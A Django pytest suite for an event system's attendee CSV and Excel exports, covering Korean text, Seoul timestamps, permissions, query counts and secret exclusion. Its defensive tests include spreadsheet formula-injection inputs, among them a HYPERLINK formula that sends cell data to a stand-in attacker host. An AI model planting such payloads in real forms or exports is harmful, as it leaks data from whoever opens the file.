"""Attendee exports for organisers: the whole current event from the dashboard
(/<lang>/admin/dashboard/attendees.csv|.xlsx) and the selected registrations
from the admin's list. CSV with a byte-order mark and defused formulas, .xlsx
that openpyxl reads back, Hangul intact, times in Seoul, no secrets, organisers
only, and a fixed number of queries."""

import csv
import io
import zipfile
from datetime import datetime

import openpyxl
import pytest
from django.urls import reverse
from django.utils import translation

from registration import checkin, roles, services
from registration.dashboard.exports import Phone, defuse
from registration.models import Registration
from tests.factories import EventFactory, PersonFactory, SessionFactory, WorkshopFactory, seoul
from tests.registration.desk_world import entrance
from tests.registration.test_dashboard import organiser, register, staff

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("no_mail_after_commit")]

REGISTRATIONS = "admin:registration_registration_changelist"
HEADER = [
    "registration code",
    "full name",
    "e-mail",
    "organisation",
    "job title",
    "category",
    "status",
    "country",
    "city",
    "phone",
    "e-mail language",
    "booked sessions",
    "waiting-list sessions",
    "registered at (Asia/Seoul)",
    "checked in: first entrance (Asia/Seoul)",
    "news from WeGO (latest consent)",
]


def url(name: str, lang: str = "en") -> str:
    with translation.override(lang):
        return reverse(f"dashboard:{name}")


def read_csv(response) -> list[list[str]]:
    body = response.content
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def read_xlsx(response) -> list[list]:
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    return [[cell.value for cell in row] for row in workbook.active.iter_rows()]


@pytest.fixture
def event():
    return EventFactory(slug="wego-2010", registration_opens_at=None, registration_closes_at=None)


@pytest.fixture
def workshops(event):
    first = WorkshopFactory(event=event, slug="u-city", title_en="U-City", title_ko="유시티", capacity=1)
    second = WorkshopFactory(
        event=event,
        slug="gis",
        title_en="GIS",
        title_ko="지리정보시스템",
        starts_at=seoul(2010, 9, 8, 14, 0),
        ends_at=seoul(2010, 9, 8, 17, 0),
    )
    return first, second


@pytest.fixture
def organiser_client(client):
    client.force_login(organiser())
    return client


@pytest.fixture
def kim(event, workshops, time_machine):
    """Registered on 20 August 09:05 in Seoul, with a seat in GIS; checked in on
    8 September at 08:41 and at 08:50 after an undo (the first counts)."""
    time_machine.move_to(seoul(2010, 8, 20, 9, 5), tick=False)
    registration = register(
        event,
        [workshops[1]],
        name="김민준",
        email="minjun@example.org",
        organisation="서울특별시",
        job_title="정보화기획단장",
        country="KR",
        city="서울",
        phone="010-1234-5678",
        language="ko",
        category="delegate",
    )
    services.approve(registration=registration)
    registration.refresh_from_db()
    door = entrance(event, 8)
    time_machine.move_to(seoul(2010, 9, 8, 8, 41), tick=False)
    assert checkin.check_in(checkpoint=door, registration=registration).result == checkin.Result.OK
    return registration


# The whole event, from the dashboard -------------------------------------------------------


def test_csv_has_a_bom_a_header_and_a_row_per_registration(organiser_client, kim, workshops, time_machine):
    time_machine.move_to(seoul(2010, 8, 21, 10, 0), tick=False)
    seated = register(kim.event, [workshops[0]], name="Ana Lima", country="BR", category="it")
    waiting = register(kim.event, [workshops[0]], name="José Kim", country="ES")  # capacity 1: waiting list

    response = organiser_client.get(url("export_csv"))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="wego-2010-attendees-')
    assert {"private", "no-store"} <= set(response["Cache-Control"].split(", "))
    rows = read_csv(response)
    assert rows[0] == HEADER
    assert rows[1] == [
        kim.code,
        "김민준",
        "minjun@example.org",
        "서울특별시",
        "정보화기획단장",
        "City delegate",
        "Confirmed",
        "South Korea",
        "서울",
        "+82 10-1234-5678",  # a phone number as written, not a formula: no apostrophe
        "한국어",
        "GIS",
        "",
        "2010-08-20 09:05",
        "2010-09-08 08:41",
        "no",
    ]
    assert [row[0] for row in rows[1:]] == [kim.code, seated.code, waiting.code]  # in registration order
    assert rows[2][11:13] == ["U-City", ""]
    assert rows[3][11:13] == ["", "U-City"]
    assert rows[3][6] == "Confirmed"


def test_csv_in_korean_has_korean_headers_and_labels(organiser_client, kim):
    rows = read_csv(organiser_client.get(url("export_csv", "ko")))

    assert rows[0][:2] == ["등록 코드", "성명"]
    assert rows[1][6] == "확정"  # Confirmed
    assert rows[1][11] == "지리정보시스템"  # the session's Korean title


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+SUM(1,2)",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_defuses_formulas(organiser_client, event, typed):
    register(event, name="Attacker", organisation=typed, job_title=typed)

    [_header, row] = read_csv(organiser_client.get(url("export_csv")))

    assert row[3] == "'" + typed
    assert row[4] == "'" + typed


def test_only_a_plain_phone_number_escapes_the_formula_guard():
    assert defuse(Phone("+82 10-1234-5678")) == "+82 10-1234-5678"
    assert defuse(Phone("+1 202-555-0143")) == "+1 202-555-0143"
    assert defuse(Phone("+82 10-1234-5678+SUM(1)")) == "'+82 10-1234-5678+SUM(1)"
    assert defuse(Phone('=HYPERLINK("http://evil.example")')) == '\'=HYPERLINK("http://evil.example")'
    assert defuse("+82 10-1234-5678") == "'+82 10-1234-5678"  # the same text in another column


def test_xlsx_writes_the_phone_number_as_text(organiser_client, kim):
    workbook = openpyxl.load_workbook(io.BytesIO(organiser_client.get(url("export_xlsx")).content))
    phone = workbook.active["J2"]

    assert (phone.value, phone.data_type) == ("+82 10-1234-5678", "s")


def test_defuse_leaves_ordinary_text_alone():
    assert [defuse(text) for text in ["김민준", "Seoul", "", "a=b", "'quoted"]] == [
        "김민준",
        "Seoul",
        "",
        "a=b",
        "'quoted",
    ]


def test_xlsx_reads_back_with_openpyxl(organiser_client, kim, workshops):
    response = organiser_client.get(url("export_xlsx"))

    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].startswith('attachment; filename="wego-2010-attendees-')
    [header, row] = read_xlsx(response)
    assert header == HEADER
    assert row == [
        kim.code,
        "김민준",
        "minjun@example.org",
        "서울특별시",
        "정보화기획단장",
        "City delegate",
        "Confirmed",
        "South Korea",
        "서울",
        "+82 10-1234-5678",
        "한국어",
        "GIS",
        None,
        datetime(2010, 8, 20, 9, 5),  # Seoul time: Excel has no time zones
        datetime(2010, 9, 8, 8, 41),
        "no",
    ]


def test_xlsx_writes_formulas_as_text(organiser_client, event):
    register(event, name="=1+1", organisation='=HYPERLINK("http://evil.example")')

    workbook = openpyxl.load_workbook(io.BytesIO(organiser_client.get(url("export_xlsx")).content))
    name, organisation = workbook.active["B2"], workbook.active["D2"]

    assert (name.value, name.data_type) == ("=1+1", "s")
    assert organisation.data_type == "s"


def test_first_entrance_is_the_earliest_valid_check_in(organiser_client, event, time_machine):
    SessionFactory(event=event, slug="forum", starts_at=seoul(2010, 9, 7, 10), ends_at=seoul(2010, 9, 7, 17))
    registration = register(event, name="Lee")
    day_7 = entrance(event, 7)
    time_machine.move_to(seoul(2010, 9, 7, 8, 0), tick=False)
    mistake = checkin.check_in(checkpoint=day_7, registration=registration).checkin
    checkin.undo(checkin=mistake)
    time_machine.move_to(seoul(2010, 9, 7, 9, 15), tick=False)
    checkin.check_in(checkpoint=day_7, registration=registration)

    [_header, row] = read_csv(organiser_client.get(url("export_csv")))

    assert row[-2] == "2010-09-07 09:15"


def test_news_column_follows_the_latest_choice(organiser_client, event):
    kept = services.register(
        event=event, person=PersonFactory(email="kept@example.org"), session_ids=[], news_consent=True
    ).registration
    withdrawn = services.register(
        event=event, person=PersonFactory(email="withdrawn@example.org"), session_ids=[], news_consent=True
    ).registration
    services.set_news_consent(registration=withdrawn, granted=False)
    register(event, name="Never", email="never@example.org")

    [_header, *rows] = read_csv(organiser_client.get(url("export_csv")))

    assert {row[0]: row[-1] for row in rows} == {
        kept.code: "yes",
        withdrawn.code: "no",
        Registration.objects.get(email="never@example.org").code: "no",
    }


def test_only_the_current_event_is_exported(organiser_client, event):
    mine = register(event, name="Mine")
    register(EventFactory(slug="older", is_current=False), name="Older")

    rows = read_csv(organiser_client.get(url("export_csv")))

    assert [row[0] for row in rows[1:]] == [mine.code]


def test_without_a_current_event_the_export_has_only_the_header(organiser_client):
    register(EventFactory(slug="older", is_current=False), name="Older")

    response = organiser_client.get(url("export_csv"))

    assert response["Content-Disposition"].startswith('attachment; filename="attendees-')
    assert read_csv(response) == [HEADER]


@pytest.mark.parametrize("name", ["export_csv", "export_xlsx"])
def test_exports_hold_no_secrets_and_no_needs(organiser_client, event, name):
    registration = register(event)
    registration.needs = "휠체어 사용 (wheelchair)"
    registration.submission_token = "form-token-123456"
    registration.attention_note = "VIP escort"
    registration.save(update_fields=["needs", "submission_token", "attention_note"])

    body = organiser_client.get(url(name)).content

    if name == "export_xlsx":
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            body = b"".join(archive.read(member) for member in archive.namelist())
    text = body.decode("utf-8", errors="replace")
    assert registration.code in text
    for secret in (registration.ticket_secret, registration.manage_secret, "form-token-123456"):
        assert secret not in text
    assert "wheelchair" not in text
    assert "VIP escort" not in text


# Who may export ----------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["export_csv", "export_xlsx"])
def test_anonymous_visitor_is_sent_to_the_admin_login(client, event, name):
    response = client.get(url(name, "ko"))

    assert response.status_code == 302
    assert response["Location"].startswith("/ko/admin/login/?next=/ko/admin/dashboard/attendees.")


@pytest.mark.parametrize("name", ["export_csv", "export_xlsx"])
@pytest.mark.parametrize("is_staff", [False, True])
def test_desk_staff_cannot_export(client, event, name, is_staff):
    register(event, name="김민준")
    client.force_login(staff("desk", group=roles.DESK_STAFF, is_staff=is_staff))

    response = client.get(url(name))

    assert response.status_code == (403 if is_staff else 302)
    assert "김민준".encode() not in response.content


def test_staff_who_may_see_the_dashboard_but_not_export_get_403(client, event):
    client.force_login(staff("viewer", permissions=["registration.view_dashboard", "registration.view_registration"]))

    assert client.get(url("export_csv")).status_code == 403
    dashboard = client.get(reverse("dashboard:index")).content.decode()
    assert "attendees.csv" not in dashboard


# The selected registrations, from the admin's list ----------------------------------------------


def changelist() -> str:
    with translation.override("en"):
        return reverse(REGISTRATIONS)


def export_action(client, action, registrations, query: str = "", **extra):
    data = {"action": action, "_selected_action": [r.pk for r in registrations], **extra}
    return client.post(changelist() + query, data)


def test_admin_offers_the_export_actions_to_organisers(organiser_client, event):
    register(event)

    html = organiser_client.get(changelist()).content.decode()

    assert '<option value="export_selected_xlsx">Export selected as Excel</option>' in html
    assert '<option value="export_selected_csv">Export selected as CSV</option>' in html


def test_admin_hides_the_export_actions_without_the_permission(client, event):
    registration = register(event)
    client.force_login(staff("viewer", permissions=["registration.view_registration"]))

    html = client.get(changelist()).content.decode()
    response = export_action(client, "export_selected_csv", [registration])

    assert "export_selected" not in html
    # No action at all for a viewer (nor badges): the list again, not a file.
    assert response["Content-Type"] == "text/html; charset=utf-8"
    assert "admin/change_list.html" in [t.name for t in response.templates]
    assert not response.has_header("Content-Disposition")


@pytest.mark.parametrize(("action", "reader"), [("export_selected_csv", read_csv), ("export_selected_xlsx", read_xlsx)])
def test_export_selected_exports_only_those(organiser_client, event, action, reader):
    chosen = [register(event, name="김민준"), register(event, name="Ana Lima")]
    register(event, name="Not chosen")

    response = export_action(organiser_client, action, chosen)

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="registrations-')
    rows = reader(response)
    assert rows[0] == HEADER
    assert sorted(row[1] for row in rows[1:]) == ["Ana Lima", "김민준"]


def test_export_selected_across_a_filtered_list(organiser_client, event):
    press = [register(event, category="press", name=f"Reporter {i}") for i in range(3)]
    register(event, category="citizen", name="Citizen")

    response = export_action(
        organiser_client, "export_selected_csv", press[:1], query="?category__exact=press", select_across="1"
    )

    rows = read_csv(response)
    assert sorted(row[1] for row in rows[1:]) == ["Reporter 0", "Reporter 1", "Reporter 2"]
    assert {row[6] for row in rows[1:]} == {"Awaiting approval"}


# Queries -------------------------------------------------------------------------------------


@pytest.mark.parametrize("n", [1, 5])
@pytest.mark.parametrize("name", ["export_csv", "export_xlsx"])
def test_export_queries_do_not_grow_with_rows(organiser_client, event, workshops, n, name, django_assert_num_queries):
    for i in range(n):
        register(event, [workshops[0], workshops[1]], name=f"Attendee {i}")  # seated or waiting
    organiser_client.get(url(name))  # warm the content-type cache

    # session, user, user's permissions, group permissions, current event,
    # registrations (with event and first entrance), bookings with sessions
    with django_assert_num_queries(7):
        response = organiser_client.get(url(name))

    rows = read_csv(response) if name == "export_csv" else read_xlsx(response)
    assert len(rows) == n + 1


@pytest.mark.parametrize("n", [1, 5])
def test_export_action_queries_do_not_grow_with_rows(organiser_client, event, workshops, n, django_assert_num_queries):
    registrations = [register(event, [workshops[0]]) for _ in range(n)]
    export_action(organiser_client, "export_selected_csv", registrations)  # warm the caches

    # session, user, user's permissions, group permissions; the admin's changelist
    # (twice: event, delegation and session filter choices) and its two counts; then the
    # export: registrations (with event and first entrance), bookings with sessions
    with django_assert_num_queries(14):
        response = export_action(organiser_client, "export_selected_csv", registrations)

    assert len(read_csv(response)) == n + 1
    assert Registration.objects.count() == n
